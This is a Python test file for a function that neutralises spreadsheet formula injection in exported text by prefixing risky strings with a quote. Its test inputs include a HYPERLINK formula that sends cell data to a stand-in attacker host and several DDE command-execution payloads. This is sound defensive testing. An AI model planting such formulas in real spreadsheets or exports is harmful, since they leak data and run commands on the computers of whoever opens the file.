"""Formula-injection neutralisation of untrusted text."""

from __future__ import annotations

import pytest

from desktop.export import neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-5",  # text that looks like a number is still text from an untrusted source
    ],
)
def test_formula_starts_are_prefixed_with_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["raksmart", "los-angeles", "CN2 GIA", "a=b", "1-2", "", "'quoted", "洛杉矶 CN2"]
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
